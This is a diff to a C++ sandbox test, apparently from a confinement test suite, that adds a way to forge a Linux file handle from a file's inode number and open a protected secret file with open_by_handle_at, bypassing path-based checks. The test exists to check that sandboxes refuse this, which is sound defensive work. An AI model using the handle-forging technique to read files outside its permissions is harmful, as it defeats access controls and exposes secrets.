@@ -3,8 +3,9 @@
 // severity: high
 // models: naive
 // needs: root
-// trap: A file handle names an inode without a path. Get one for $S/key by name_to_handle_at, open it
-//   with open_by_handle_at: no path argument anywhere.
+// trap: A file handle names an inode without a path. Get one for $S/key by name_to_handle_at, or forge
+//   it from the handle of an allowed file and the number that stat tells, and open it with
+//   open_by_handle_at: no path argument anywhere.
 // naive: No path, so it passes.
 // kernel: open_by_handle_at needs CAP_DAC_READ_SEARCH and a descriptor on the mount (open_by_handle_at(2)).
 // sealed: Both are refused.
@@ -18,22 +19,53 @@
 
 namespace attack {
 
-void strike() {
-  alignas(file_handle) char space[sizeof(file_handle) + 128]{};
-  auto* handle = reinterpret_cast<file_handle*>(space);
-  handle->handle_bytes = 128;
+namespace {
+
+constexpr int kInoAndGeneration = 1;  // FILEID_INO32_GEN, of ext4 and others
+
+struct Handle {
+  unsigned size = sizeof numbers;
+  int type = kInoAndGeneration;
+  uint32_t numbers[32]{};
+};
+
+void open_it(Handle& handle) {
+  const int t = ::open(work("").c_str(), O_RDONLY | O_DIRECTORY);
+  take(::open_by_handle_at(t, reinterpret_cast<file_handle*>(&handle), O_RDONLY));
+}
+
+bool told(const std::string& path, Handle& handle) {
   int mount = 0;
-  if (::name_to_handle_at(AT_FDCWD, secret().c_str(), handle, &mount, 0) != 0) {
-    if (errno == EOPNOTSUPP) {
-      skip("this file system has no handles");
-    }
-    held("name_to_handle_at");
+  auto* out = reinterpret_cast<file_handle*>(&handle);
+  return ::name_to_handle_at(AT_FDCWD, path.c_str(), out, &mount, 0) == 0;
+}
+
+// Where handles are of that kind; generation 0 is any.
+std::string_view unless_forgeable() {
+  Handle handle;
+  return told(work("ok.dat"), handle) && handle.type == kInoAndGeneration && handle.size == 8
+             ? ""
+             : "handles of this file system are not a number and a generation";
+}
+
+}  // namespace
+
+void strike() {
+  if (way("told")) {
+    Handle handle;
+    const bool have = told(secret(), handle);
+    if (!have && errno == EOPNOTSUPP) skip("this file system has no handles");
+    if (have) open_it(handle);
   }
-  int t = ::open(work("").c_str(), O_RDONLY | O_DIRECTORY);
-  int fd = ::open_by_handle_at(t, handle, O_RDONLY);
-  if (fd < 0) held("open_by_handle_at");
-  take(fd);
-  held("read");
+  if (way("forged", wanted_way() != nullptr ? unless_forgeable() : "")) {
+    struct stat status {};
+    must(::stat(secret().c_str(), &status) == 0, "stat");
+    Handle handle;
+    handle.size = 8;
+    handle.numbers[0] = static_cast<uint32_t>(status.st_ino);
+    open_it(handle);
+  }
+  held("open_by_handle_at");
 }
 
 void twin() {
